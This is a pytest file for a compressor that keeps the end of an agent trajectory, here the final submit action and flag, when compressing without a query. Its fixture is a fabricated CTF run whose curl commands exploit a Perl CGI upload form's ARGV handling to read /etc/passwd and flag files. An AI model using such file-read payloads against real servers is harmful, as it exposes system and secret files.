"""With no query, the end of an agent trajectory (its last ``submit`` action, what it returned and the final
submission after it) ranks with the best of its source (QA s34 M5: a CTF run's flag was dropped at 1/4 and 1/8
of the input while the HTML form of earlier observations was delivered)."""
import pytest

from odcf.compressor import Compressor
from odcf.document import Document, Source
from odcf.plan.model import Plan
from odcf.stages.rank import final_outcome
from odcf.stages.segment import Segmenter

CURL = ("% Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n"
        "                                 Dload  Upload   Total   Spent    Left  Speed\n\n"
        "  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\n"
        "100  1012    0   587  100   425   6029   4365 --:--:-- --:--:-- --:--:-- 10652\n")
FORM = CURL + ("<html><head><title>Perl File Upload</title></head><body>\n<h1>Perl File Upload</h1>\n"
        "<form method=\"post\" enctype=\"multipart/form-data\">\nFile: <input type=\"file\" name=\"file\" />\n"
        "<input type=\"submit\" name=\"Submit!\" value=\"Submit!\" />\n</form>\n<hr />\n")


def step(k, thought, action, observation):
    return f"## Step {k}\n\nThought: {thought}\n\nAction:\n```\n{action}\n```\n\nObservation:\n```\n{observation}\n```\n"


PATHS = ["/etc/passwd", "/tmp/flag", "/home/flag", "/var/www/flag", "/root/flag", "/opt/flag"]
RUN = "\n".join(
    [step(k + 1, f"The flag file doesn't seem to be at the path tried before. Let's try {p} on the upload form, "
                 f"version {k + 2}.3 of the CGI script.",
          f'curl -X POST -F "file=ARGV" -F "file=@printenv.pl" http://web.chal.csaw.io:8000/cgi-bin/file.pl?{p}',
          FORM + "</body></html>") for k, p in enumerate(PATHS)]
    + [step(7, "We found the flag when we accessed the /flag file; let's submit it.",
            "curl -X POST -F \"file=ARGV\" http://web.chal.csaw.io:8000/cgi-bin/file.pl?/flag",
            FORM + "FLAG{p3rl_6_iz_EVEN_BETTER!!1}\n</body></html>"),
       step(8, "It seems that we found the flag; we will submit it.", "submit FLAG{p3rl_6_iz_EVEN_BETTER!!1}",
            "FLAG{p3rl_6_iz_EVEN_BETTER!!1}"),
       "## Final submission\n\n```diff\nFLAG{p3rl_6_iz_EVEN_BETTER!!1}\n```\n"])


def segments(text):
    return Segmenter()(Document.from_sources([Source(id="run.md", text=text)]), Plan(domain="t")).segments


def test_the_end_of_a_trajectory_is_its_last_submit_action_and_what_follows():
    segs = segments(RUN)
    ends = [s for s in segs if s.id in final_outcome(segs)]
    assert ends[0].text == "```\nsubmit FLAG{p3rl_6_iz_EVEN_BETTER!!1}\n```"
    assert ends[-1] is segs[-1] and "FLAG{p3rl_6_iz_EVEN_BETTER!!1}" in ends[-1].text
    # no "Observation:" steps: a page that shows a submit command is no trajectory
    doc = "## Submitting\n\nTo hand in the answer, type:\n\n```\nsubmit\n```\n\nThe grader replies within a minute.\n"
    assert not final_outcome(segments(doc))
    # an end holding more than a quarter of the run is not lifted whole
    assert not final_outcome(segments(step(1, "Let's look.", "ls", "a.py") + step(2, "Done.", "submit", "x " * 400)))


@pytest.mark.parametrize("budget", [100, 150, 250])
def test_with_no_query_the_flag_a_run_submitted_is_delivered(budget):
    r = Compressor.from_ontology("general").compress([Source(id="run.md", text=RUN)], budget=budget,
                                                     annotate=False, timings=False)
    assert "submit FLAG{p3rl_6_iz_EVEN_BETTER!!1}" in r.text, r.text
    assert "## Final submission\n\n```diff\nFLAG{p3rl_6_iz_EVEN_BETTER!!1}\n```" in r.text, r.text
    assert r.tokens_out <= budget
    *_, action, label, flag, heading, final = r.record["sources"][0]["segments"]  # submit, "Observation:", …
    for x in (action, label, flag, heading, final):
        assert x["status"] == "verbatim" and x["reason"].startswith("rank: the end of an agent trajectory"), x


def test_with_a_query_the_end_of_a_trajectory_is_not_lifted():
    r = Compressor.from_ontology("general").compress([Source(id="run.md", text=RUN)], budget=150,
                                                     query="which paths were tried on the upload form?",
                                                     annotate=False, timings=False)
    assert "end of an agent trajectory" not in r.record_json()
